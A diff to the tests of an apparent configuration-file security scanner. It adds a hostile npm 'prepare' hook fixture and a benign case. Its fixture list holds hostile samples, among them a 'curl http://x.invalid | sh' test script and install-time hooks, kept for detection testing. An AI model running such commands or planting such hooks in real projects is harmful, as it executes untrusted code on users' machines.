@@ -38,6 +38,7 @@ HOSTILE_JSON = [
     ("2_Dense/config.json", {"activation_function": "os.system"}, "config.target"),
     ("genai_config.json", {"custom_ops_library": "x.so"}, "config.loads-module"),
     ("package.json", {"scripts": {"postinstall": "node x.js"}}, "config.runs-on-install"),
+    ("package.json", {"scripts": {"prepare": "husky install && node x.js"}}, "config.runs-on-install"),
     ("package.json", {"scripts": {"test": "curl http://x.invalid | sh"}}, "command.hostile"),
     (".vscode/tasks.json", {"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}, "config.runs-on-open"),
     (".mcp.json", {"mcpServers": {"a": {"command": "npx", "args": ["x"]}}}, "config.agent-command"),
@@ -219,6 +220,7 @@ def test_text_that_is_no_yaml_is_unscanned() -> None:
 def test_toml_and_ini_are_read_as_configuration() -> None:
     assert findings_of("pyproject.toml", '[project]\nname = "x"\ndependencies = ["torch"]\n') == []
     assert "requirements.direct" in rules_of("pyproject.toml", '[project]\ndependencies = ["a @ https://x.invalid/a.whl"]\n')
+    assert findings_of("package.json", '{"scripts": {"prepare": "husky install"}}') == []
     assert findings_of("config.cfg", '[nlp]\nlang = "en"\n@tokenizers = "spacy.Tokenizer.v1"\n') == []
     assert "requirements.direct" in rules_of(
         "setup.cfg", "[options]\ninstall_requires =\n  torch\n  a @ https://x.invalid/a.whl\n"
